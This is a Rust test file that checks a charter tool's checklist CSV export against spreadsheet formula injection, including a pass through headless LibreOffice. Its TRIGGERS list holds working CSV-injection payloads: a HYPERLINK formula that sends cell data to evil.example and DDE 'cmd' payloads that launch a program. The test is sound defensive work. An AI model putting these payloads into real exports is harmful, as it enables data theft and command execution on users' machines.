//! The checklist CSV opened as a spreadsheet would open it: no cell is a formula, whatever the charter's
//! text starts with. Every cell is checked for a formula trigger after the CSV is parsed; and, when
//! LibreOffice is installed, the CSV is converted by LibreOffice Calc itself (headless) to a flat
//! OpenDocument spreadsheet, which must hold no formula. Without LibreOffice that part says so and passes,
//! unless `CHARTER_REQUIRE_LIBREOFFICE` is set, as `.ci/run` sets it after installing LibreOffice.

mod common;

use std::fs;
use std::path::{Path, PathBuf};
use std::time::Duration;

use charter::pipeline::check;
use charter::render;
use charter::source::Source;

/// Values that start like a formula, each in a field that reaches the CSV.
const TRIGGERS: &[&str] = &[
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "- 1+1",
];

/// The community example with every obligation's action and evidence replaced by a formula trigger.
fn hostile_charter() -> String {
    let text =
        fs::read_to_string(common::root().join("charters/community-screening-partnership.toml"))
            .expect("example");
    let mut n = 0;
    text.lines()
        .map(|line| {
            for key in ["action = \"", "evidence = \""] {
                if line.starts_with(key) {
                    n += 1;
                    let value = TRIGGERS[n % TRIGGERS.len()];
                    return format!("{}{}", &key[..key.len() - 1], toml::Value::from(value));
                }
            }
            line.to_owned()
        })
        .collect::<Vec<_>>()
        .join("\n")
}

fn hostile_csv() -> String {
    let source = Source::new("x.toml", hostile_charter().into_bytes());
    let valid = check(&source).0.expect("the hostile charter is valid");
    render::tracker::csv(&render::checklist(&valid)).expect("csv")
}

#[test]
fn no_cell_starts_with_a_formula_trigger() {
    let csv = hostile_csv();
    let mut reader = csv::Reader::from_reader(csv.as_bytes());
    let mut neutralised = 0;
    for record in reader.records() {
        for cell in &record.expect("record") {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would evaluate: {cell:?}"
            );
            if cell.starts_with('\'') {
                neutralised += 1;
                // The text itself is kept after the quote.
                assert!(TRIGGERS.iter().any(|t| cell[1..] == **t), "{cell:?}");
            }
        }
    }
    assert!(
        neutralised >= TRIGGERS.len(),
        "only {neutralised} cells were hostile"
    );
}

fn libreoffice() -> Option<PathBuf> {
    // Calc itself, not only the office suite's launcher (Writer alone cannot open a CSV).
    let calc = Path::new("/usr/lib/libreoffice/program/libsclo.so");
    let found = ["/usr/bin/soffice", "/usr/bin/libreoffice"]
        .iter()
        .map(PathBuf::from)
        .find(|p| p.exists() && calc.exists());
    if found.is_none() {
        assert!(
            std::env::var_os("CHARTER_REQUIRE_LIBREOFFICE").is_none(),
            "CHARTER_REQUIRE_LIBREOFFICE is set but LibreOffice is not installed"
        );
        #[allow(clippy::print_stderr, reason = "a skipped test must say why")]
        {
            eprintln!(
                "skipping the LibreOffice part: no soffice (install the Debian package libreoffice-calc-nogui)"
            );
        }
    }
    found
}

/// Converts a CSV file to a flat OpenDocument spreadsheet with LibreOffice Calc, as a user who opens it
/// would see it (comma-separated, UTF-8, formulas evaluated), and returns the XML.
fn calc(soffice: &Path, dir: &Path, name: &str, csv: &str) -> String {
    let input = dir.join(format!("{name}.csv"));
    fs::write(&input, csv).expect("write csv");
    let profile = dir.join(format!("profile-{name}"));
    let out = assert_cmd::Command::new(soffice)
        .arg(format!(
            "-env:UserInstallation=file://{}",
            profile.display()
        ))
        .args(["--headless", "--norestore", "--convert-to", "fods"])
        // Comma-separated, double-quoted, UTF-8 (76), from line 1.
        .args(["--infilter=CSV:44,34,76,1"])
        .arg("--outdir")
        .arg(dir)
        .arg(&input)
        .timeout(Duration::from_secs(180))
        .output()
        .expect("soffice runs");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    fs::read_to_string(dir.join(format!("{name}.fods"))).expect("converted spreadsheet")
}

#[test]
fn libreoffice_finds_no_formula_in_the_checklist() {
    let Some(soffice) = libreoffice() else {
        return;
    };
    let dir = tempfile::tempdir().expect("tempdir");
    // The check can fail: the same triggers, not neutralised, are formulas to LibreOffice.
    let control = calc(
        soffice.as_path(),
        dir.path(),
        "control",
        "a,b\r\n=1+1,@SUM(1+1)\r\n",
    );
    assert!(
        control.contains("table:formula="),
        "LibreOffice evaluated no formula in the control"
    );
    let sheet = calc(soffice.as_path(), dir.path(), "checklist", &hostile_csv());
    assert!(
        !sheet.contains("table:formula="),
        "LibreOffice read a formula in the checklist"
    );
    assert!(
        sheet.contains("=HYPERLINK"),
        "the text of the hostile cell is kept"
    );
}
